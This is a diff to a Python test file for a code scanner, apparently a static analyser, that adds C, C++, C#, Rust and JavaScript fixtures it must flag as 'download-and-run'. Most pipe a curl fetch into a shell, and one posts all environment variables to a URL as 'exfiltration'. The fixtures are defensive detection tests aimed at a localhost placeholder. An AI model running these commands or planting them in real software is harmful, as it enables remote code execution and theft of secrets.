@@ -10,6 +10,7 @@ from codeguard.analysis import Reading
 from codeguard.analysis.python.counterparts import TrustedFunctions
 from codeguard.analysis.rules.base import Context, Match, Services
 from codeguard.analysis.rules.capabilities import SIGNAL
+from codeguard.analysis.rules.capabilities.shells import started_places
 from codeguard.corpus.chunking.chunker import chunk_file
 from codeguard.models import Severity
 
@@ -126,6 +127,23 @@ OTHERS = [
     ("https.get(u, res => { res.on('data', d => eval(d.toString())) })\n", "x.js", {"download-and-run"}),
     ("fetch(u, {method: 'POST', body: JSON.stringify(process.env)})\n", "x.ts", {"exfiltration"}),
     ("require('child_process').execSync('curl http://127.0.0.1:9/x | sh')\n", "x.js", {"download-and-run"}),
+    ('int f() { return system("cd /tmp; curl http://127.0.0.1:9/x | sh"); }\n', "x.c", {"download-and-run"}),
+    ('int f() { return std::system("curl http://127.0.0.1:9/x | sh"); }\n', "x.cpp", {"download-and-run"}),
+    (
+        'class A { void f() { Process.Start("/bin/sh", "-c \\"curl http://127.0.0.1:9/x | sh\\""); } }\n',
+        "x.cs",
+        {"download-and-run"},
+    ),
+    (
+        'fn f() {\n    Command::new("sh")\n        .arg("-c")\n        .arg("curl http://127.0.0.1:9/x | sh")\n        .spawn();\n}\n',
+        "x.rs",
+        {"download-and-run"},
+    ),
+    (
+        '// system("curl http://127.0.0.1:9/x | sh");\nint f() { system("ls"); puts("curl http://127.0.0.1:9/x | sh"); }\n',
+        "x.c",
+        set(),
+    ),
     (
         "const b = Buffer.from(text, 'base64')\nfetch(process.env.API_URL).then(r => r.json())\n",
         "x.js",
@@ -194,3 +212,10 @@ def test_capabilities_alone_are_information() -> None:
 )
 def test_hostile_files_are_bounded(text: str) -> None:
     assert len(inspect(text)) < 5_000
+
+
+@pytest.mark.parametrize(
+    "text", ['system("' * 30_000, 'system("' + '\\"' * 100_000, "Command::new(" + '"x",' * 50_000]
+)
+def test_hostile_texts_with_commands_are_bounded(text: str) -> None:
+    assert not list(started_places(text))
